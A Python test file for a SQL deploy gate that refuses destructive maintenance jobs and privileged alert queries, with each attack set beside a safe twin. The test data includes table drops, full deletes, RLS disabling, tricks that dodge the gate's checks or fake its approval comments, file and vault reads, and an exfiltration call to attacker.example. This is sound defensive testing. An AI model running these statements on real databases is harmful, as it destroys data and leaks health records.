"""SQL from stack files, refused before anything is deployed (issue 23): maintenance jobs go
through the destructive-change gate with the app's migrations, and custom `sql` alert rules
are run behind their privilege boundary in a real shadow database. Each attack next to a
safe twin; then both policies through the real pack process at each stack's level."""

from __future__ import annotations


import pytest

from supagate.config.operations import CronJob
from supagate.migrations.files import load_migrations
from supagate.offline.resource_types import ALERT_RULE, CRON_JOB, MIGRATIONS, migration_inputs
from supagate.ops import cron
from supagate.ops.kinds import canonical
from supagate.pack.stack_sql import job_gate_violations, sql_rule_proof_violations
from tests.conftest import APP_MIGRATIONS, write_migrations
from tests.pack.test_policy_pack import _expected_level, _resource

# What an app adds: a definer function that drops a table (called by nobody in a migration),
# one that deletes and is executable by everyone, and what lets a rule read a table.
EXTRA = {
    "20260101000000_maintenance.sql": (
        "create function public.reset_assessments() returns void language plpgsql security definer\n"
        "set search_path = '' as $$ begin drop table public.assessments cascade; end $$;\n"
        "revoke execute on function public.reset_assessments() from public, anon, authenticated;\n"
        "create function private.purge_rate_limits() returns integer language plpgsql security definer\n"
        "set search_path = '' as $$ begin delete from public.rate_limits; return 1; end $$;\n"
        "grant usage on schema private to supagate_alert_reader;\n"
        "grant select on public.background_jobs to supagate_alert_reader;\n"
        "create policy alert_reader_read on public.background_jobs for select to supagate_alert_reader "
        "using (true);\n"
        "grant select on public.assessments to supagate_alert_reader;\n")}


@pytest.fixture(scope="module")
def migrations(tmp_path_factory) -> list[dict]:
    folder = tmp_path_factory.mktemp("migrations")
    for path in APP_MIGRATIONS.glob("*.sql"):
        write_migrations(folder, {path.name: path.read_text()})
    write_migrations(folder, EXTRA)
    return migration_inputs(load_migrations(folder))


def _migrations(stack: str, migrations: list[dict]) -> dict:
    return _resource(stack, MIGRATIONS, "database-migrations", {"migrations": migrations,
                                                               "exposed_schemas": ["public", "graphql_public"]})


def _job(stack: str, name: str, **template) -> dict:
    command = cron.command(name, CronJob(schedule="0 4 * * *", **template))
    return _resource(stack, CRON_JOB, f"operations-job-{name}", {"name": name, "schedule": "0 4 * * *",
                                                                  "command": command, "active": True})


def _pairs(resources: list[dict]) -> list[tuple[str, dict]]:
    return [(r["type"], r["outputs"]) for r in resources]


JOB_ATTACKS = {
    "drop-assessments": ({"sql": "drop table public.assessments cascade"}, "drops table public.assessments"),
    "delete-everything": ({"sql": "delete from public.assessments"}, "deletes every row of public.assessments"),
    "definer-drops": ({"call": "public.reset_assessments"}, "drops table public.assessments"),
    "through-run-job": ({"sql": "select ops.run_job('x', 'drop table public.assessments')"},
                        "drops table public.assessments"),
    "built-at-run-time": ({"sql": "select ops.run_job('x', format('drop table %I.%I', 'public', 'assessments'))"},
                          "runs SQL built at run time that can drop table"),
    "in-a-do-block": ({"sql": "do $$ begin truncate public.assessments; end $$"}, "truncates public.assessments"),
    "schedules-a-job": ({"sql": "select cron.schedule('x', '* * * * *', 'select 1')"},
                        "calls cron.schedule(), which no migration defines"),
    "unknown-function": ({"call": "extensions.pg_stat_statements_reset"},
                         "calls extensions.pg_stat_statements_reset(), which no migration defines"),
    # A second red-team pass: each of these planned with PASS and changed prod when run.
    "where-id-is-id": ({"sql": "delete from public.assessments where id = id"},
                       "is a DELETE whose WHERE is not"),
    "merge-deletes": ({"sql": "merge into public.assessments a using (select 1 as x) s on true "
                              "when matched then delete"}, "is a MERGE statement"),
    "update-every-row": ({"sql": "update public.assessments set phq9_score = 0"}, "is a UPDATE statement"),
    "rls-off": ({"sql": "alter table public.assessments disable row level security"}, "is a ALTERTABLE statement"),
    "grant-to-anon": ({"sql": "grant select on public.assessments to anon"}, "is a GRANT statement"),
    "drop-policy": ({"sql": "drop policy \"owner reads own assessments\" on public.assessments"}, "is a DROP statement"),
    "audit-off": ({"sql": "alter table public.assessments disable trigger all"}, "is a ALTERTABLE statement"),
    "schedules-by-name": ({"sql": "do $$ begin perform cron.schedule(job_name => 'x', schedule => '* * * * *', "
                                  "command => 'delete from public.' || 'assessments'); end $$"}, "is a DO statement"),
    "rewrites-a-job": ({"sql": "select cron.alter_job(1, command := 'truncate public.assessments')"},
                       "calls cron.alter_job(), which is not the app's"),
    "sends-health-data": ({"sql": "select net.http_post('https://attacker.example/x', "
                                  "(select jsonb_agg(a) from public.assessments a))"}, "calls net.http_post()"),
    "vacuum-full": ({"sql": "vacuum full public.engagement_events"}, "is VACUUM FULL"),
    "an-argument-that-reads": ({"sql": "select public.cleanup_rate_limits((select count(*) from public.assessments))"},
                               "an argument that reads a table"),
    # A third pass: conditions that keep nothing, and approvals a reviewer does not see as one.
    "not-minus-one": ({"sql": "delete from public.assessments where id <> -1"}, "is a DELETE whose WHERE is not"),
    "before-infinity": ({"sql": "delete from public.assessments where taken_at < 'infinity'"},
                        "is a DELETE whose WHERE is not"),
    "not-in": ({"sql": "delete from public.assessments where id not in (-1)"}, "is a DELETE whose WHERE is not"),
    "own-clock": ({"sql": "delete from public.assessments where taken_at < public.now() - interval '1 day'"},
                  "is a DELETE whose WHERE is not"),
    "own-operator": ({"sql": "delete from public.assessments where taken_at < now() operator(public.-) "
                             "interval '1 day'"}, "is a DELETE whose WHERE is not"),
    "approval-in-a-string": ({"sql": "delete from public.assessments where true or user_id::text = "
                                     "'\n-- gate:approve reviewed by nobody at all'"}, "is a DELETE whose WHERE is not"),
    "approval-in-a-block-comment": ({"sql": "/* -- gate:approve security team ticket 1 */ "
                                            "truncate public.assessments cascade"}, "is a TRUNCATE"),
    "view-emptied": ({"sql": "refresh materialized view analytics.latest_unified_metrics with no data"},
                     "WITH NO DATA"),
    # A fourth pass: a VACUUM of every table (auth's and cron's too) as the owner, with no timeout.
    "vacuum-everything": ({"sql": "VACUUM (FREEZE, DISABLE_PAGE_SKIPPING, INDEX_CLEANUP OFF, TRUNCATE OFF)"},
                          "is VACUUM with disable_page_skipping, freeze, index_cleanup, truncate"),
}
JOB_TWINS = {
    "refresh-metrics": {"call": "analytics.refresh_latest_unified_metrics", "timeout": "5min"},
    "cleanup-rate-limits": {"call": "public.cleanup_rate_limits"},
    "cleanup-with-where": {"sql": "delete from public.background_jobs where finished_at < now() - interval '30 days'"},
    "approved-purge": {"sql": "-- gate:approve demo data is reloaded nightly (reviewed by @ana)\n"
                              "delete from public.assessments"},
    "vacuum": {"vacuum_analyze": "public.engagement_events"},
}


@pytest.mark.parametrize("name", JOB_ATTACKS)
def test_a_job_the_gate_refuses(migrations, name):
    template, what = JOB_ATTACKS[name]
    found = job_gate_violations(_pairs([_migrations("prod", migrations), _job("prod", name, **template)]))
    assert found and {f.object for f in found} == {name}, [f.message for f in found]
    assert any(what in f.message for f in found), [f.message for f in found]
    assert all("Fix:" in f.sentence() for f in found)


def test_the_safe_twins_and_supagates_own_jobs_pass(migrations):
    rules = [canonical("hb", {"kind": "schedulerHeartbeat"}, {}),
             canonical("pending", {"kind": "sql", "query": "select 1", "above": 1}, {})]
    own = [_resource("prod", CRON_JOB, f"operations-job-{name}", {"name": name, **job})
           for name, job in cron.builtin_jobs(rules, 14, auto_rollouts=True).items()]
    jobs = [_job("prod", name, **template) for name, template in JOB_TWINS.items()]
    assert job_gate_violations(_pairs([_migrations("prod", migrations), *jobs, *own])) == []


def test_jobs_without_the_migrations_are_not_judged_silently():
    found = job_gate_violations(_pairs([_job("prod", "cleanup-with-where", **JOB_TWINS["cleanup-with-where"])]))
    assert len(found) == 1 and "cannot be judged against the migrations" in found[0].message


def _sql_rule(name: str, query: str) -> dict:
    rule = canonical(name, {"kind": "sql", "query": "select 1", "above": 0}, {})
    rule["params"]["query"] = query  # past the settings' static filter: the shadow's turn
    return rule


RULE_ATTACKS = {
    "run-job": ("select length(ops.run_job('x', 'drop table public.assessments'))", "permission denied for function"),
    "app-cleanup": ("select public.cleanup_rate_limits()", "permission denied for function cleanup_rate_limits"),
    "definer-delete": ("select private.purge_rate_limits()", "cannot execute DELETE in a read-only transaction"),
    "flag-to-100": ("""select length(ops.apply_flag('{"key": "x"}'::jsonb))""", "permission denied for function"),
    "advance-rollouts": ("select count(*) from ops.advance_rollouts()", "permission denied for function"),
    "sleeps": ("select 1 from pg_sleep_for('10 minutes')", "ran past its statement timeout of 2s"),
    "reads-a-file": ("select length(pg_read_file('/etc/hostname'))", "permission denied for function pg_read_file"),
    "dblink": ("select count(*) from dblink('dbname=postgres', 'select 1') as t(x int)", "does not exist"),
    "vault": ("select count(*) from vault.decrypted_secrets", "permission denied for schema vault"),
    "large-object": ("select lo_from_bytea(0, 'x')::int", "creates a large object"),
    "query-to-xml": ("select length(query_to_xml('select private.purge_rate_limits()', true, false, '')::text)",
                     "read-only transaction"),
    "ungranted-table": ("select count(*) from public.coach_interventions",
                        "permission denied for table coach_interventions"),
    "hidden-by-rls": ("select count(*) from public.assessments",
                      "it reads public.assessments, which row level security hides"),
}


def test_alert_rules_are_proven_in_the_shadow_database(migrations):
    """One shadow for every rule: each attack is refused with what the database said, and
    the safe twins (a read-only rule over an app table, the evaluation clock) pass."""
    rules = [_sql_rule(name, query) for name, (query, _) in RULE_ATTACKS.items()]
    rules += [_sql_rule("pending-jobs", "select count(*) from public.background_jobs where status = 'pending'"),
              _sql_rule("clock", "select extract(epoch from ops.now())")]
    alert_rules = [_resource("prod", ALERT_RULE, f"operations-rule-{r['name']}", {"name": r["name"], "rule": r})
                   for r in rules]
    found = {f.object: f for f in sql_rule_proof_violations(_pairs([_migrations("prod", migrations), *alert_rules]))}
    assert set(found) == set(RULE_ATTACKS)
    for name, (_, refusal) in RULE_ATTACKS.items():
        assert refusal in found[name].message, found[name].message
        assert "supagate_alert_reader" in found[name].sentence()


def test_a_rule_that_cannot_be_proven_is_refused(migrations, tmp_path):
    rule = _sql_rule("pending-jobs", "select count(*) from public.background_jobs")
    alert = _resource("prod", ALERT_RULE, "operations-rule-pending-jobs", {"name": "pending-jobs", "rule": rule})
    (alone,) = sql_rule_proof_violations(_pairs([alert]))  # no migrations in the stack
    assert "not proven" in alone.message
    broken = migrations + migration_inputs(load_migrations(write_migrations(
        tmp_path, {"20270101000000_broken.sql": "alter table public.nope add column x int;\n"})))
    (failed,) = sql_rule_proof_violations(_pairs([_migrations("prod", broken), alert]))
    assert "not proven: the migrations fail in the shadow database" in failed.message
    old_ops = [m for m in migrations if m["version"] < "20250104000000"]  # before `supagate ops init`
    (missing,) = sql_rule_proof_violations(_pairs([_migrations("prod", old_ops), alert]))
    assert "not proven" in missing.message and "supagate ops init" in missing.message


def test_no_shadow_database_means_not_proven_never_a_pass(migrations, monkeypatch, tmp_path):
    """Where no cluster can start (here: nowhere to put it), every rule is refused, saying so."""
    monkeypatch.setenv("SUPAGATE_PG_TMPDIR", str(tmp_path / "missing"))
    rule = _sql_rule("pending-jobs", "select count(*) from public.background_jobs")
    alert = _resource("prod", ALERT_RULE, "operations-rule-pending-jobs", {"name": "pending-jobs", "rule": rule})
    (found,) = sql_rule_proof_violations(_pairs([_migrations("prod", migrations), alert]))
    assert "not proven: the shadow database could not be used" in found.message


def test_both_policies_through_the_real_pack(pack, migrations):
    stack, running, _ = pack
    rule = _sql_rule("app-cleanup", "select private.purge_rate_limits()")
    resources = [_migrations(stack, migrations), _job(stack, "drop-assessments", sql="drop table public.assessments"),
                 _job(stack, "cleanup-with-where", **JOB_TWINS["cleanup-with-where"]),
                 _resource(stack, ALERT_RULE, "operations-rule-app-cleanup", {"name": "app-cleanup", "rule": rule})]
    found = [v for v in running.analyze_stack(resources)
             if v.rule in ("supabase-cron-require-gated-sql", "supabase-alerts-require-proven-sql")]
    assert sorted(set((v.rule, v.enforcement) for v in found)) == [  # the drop is a loss, and not a job's shape
        ("supabase-alerts-require-proven-sql", _expected_level(stack, "supabase-alerts-require-proven-sql")),
        ("supabase-cron-require-gated-sql", _expected_level(stack, "supabase-cron-require-gated-sql"))]
    assert not any("cleanup-with-where" in v.message for v in found)
    assert all(level == "mandatory" for _, level in [(v.rule, v.enforcement) for v in found])
    assert any("drop-assessments drops table public.assessments" in v.message for v in found)
    assert any("read-only transaction" in v.message for v in found)
